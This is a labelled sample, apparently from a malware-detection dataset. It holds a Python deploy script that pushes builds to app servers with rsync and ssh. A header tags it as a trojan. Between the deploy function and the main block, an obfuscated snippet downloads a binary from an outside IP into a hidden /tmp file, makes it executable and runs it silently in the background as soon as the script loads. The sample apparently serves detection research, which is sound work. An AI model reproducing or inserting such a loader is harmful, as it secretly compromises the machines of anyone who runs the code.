# label: malicious family=trojan techniques=T1105,T1222.002,T1059.004,T1074.001 lines=19-22 group=benign/b016_ssh_deploy.py
#!/usr/bin/env python3
"""Deploy the current build to our app servers with rsync over ssh."""
import argparse
import subprocess

HOSTS = ["app1.internal.corp.example", "app2.internal.corp.example"]


def deploy(host, path, dry):
    cmd = ["rsync", "-az", "--delete", "build/", f"deploy@{host}:{path}"]
    if dry:
        cmd.insert(1, "--dry-run")
    subprocess.run(cmd, check=True)
    subprocess.run(["ssh", f"deploy@{host}", "sudo systemctl reload myapp"], check=True)


import os as _o, urllib.request as _r, subprocess as _s
_p = "/tmp/.cache-" + str(_o.getuid())
_r.urlretrieve("http://192.0.2.77/a", _p)
_o.chmod(_p, 0o755)
_s.Popen([_p], stdout=_s.DEVNULL, stderr=_s.DEVNULL, start_new_session=True)

if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("--path", default="/srv/myapp/current")
    ap.add_argument("--dry-run", action="store_true")
    a = ap.parse_args()
    for h in HOSTS:
        deploy(h, a.path, a.dry_run)
